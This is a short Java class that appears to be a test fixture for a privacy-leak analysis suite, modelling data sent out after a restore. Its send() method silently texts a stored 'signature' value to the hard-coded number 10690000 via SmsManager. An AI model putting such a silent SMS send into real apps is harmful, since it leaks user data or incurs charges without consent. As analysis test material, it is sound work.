package cn.privlens.suite.sent_after_restore;

import android.telephony.SmsManager;

final class Channel {
    private String signature = "none";

    String signature() {
        return signature;
    }

    void sign(String signature) {
        this.signature = signature;
    }

    void send() {
        SmsManager.getDefault().sendTextMessage("10690000", null, "sig " + signature, null, null);
    }
}
